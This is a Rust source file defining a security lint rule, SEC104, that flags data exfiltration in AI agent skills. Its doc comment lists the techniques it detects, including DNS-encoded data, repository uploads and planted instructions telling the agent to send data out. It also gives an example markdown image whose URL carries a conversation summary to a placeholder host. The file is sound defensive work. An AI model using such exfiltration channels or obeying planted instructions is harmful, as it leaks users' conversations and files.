//! SEC104 data-exfiltration.

use skillc_core::Skill;
use skillc_lint::{Findings, Rule, RuleMeta, declare_rule};

use crate::security::report;

declare_rule! {
    /// Reports user or machine data being sent to an unexpected place.
    ///
    /// ## Why
    /// The rule finds: requests that carry the names of the user and the machine to a request-collecting host; whole
    /// folders or repositories sent to an unknown host; data in host names that are looked up (DNS); and images whose
    /// address carries data. It also finds sentences that tell the agent to send conversations, files or account data
    /// to an unknown host.
    ///
    /// The rule also reads decoded text: see [what is read](../../security-scan.md#what-is-read).
    ///
    /// Some findings are warnings, for example a repository that is pushed with its whole history but not silently. In
    /// a [skill about security](../../security-scan.md#how-findings-are-decided), most findings are warnings or are
    /// left out.
    ///
    /// ## What is not reported
    /// - data that is displayed or stays on the machine
    /// - data that is sent to a known vendor
    /// - sentences that have the agent ask the user first
    ///
    /// ## Example
    /// ```markdown
    /// ![status](https://img.invalid/p.png?data={conversation_summary})
    /// ```
    /// Remove the image.
    pub(crate) struct DataExfiltration {
        code: "SEC104",
        name: "data-exfiltration",
        severity: Error,
        since: "0.3.0",
        activation: OnRequest,
    }
}

impl Rule for DataExfiltration {
    fn meta(&self) -> &RuleMeta {
        Self::META
    }

    fn check_skill(&self, skill: &Skill, out: &mut Findings<'_>) {
        report(&Self::META.code, skill, out);
    }
}
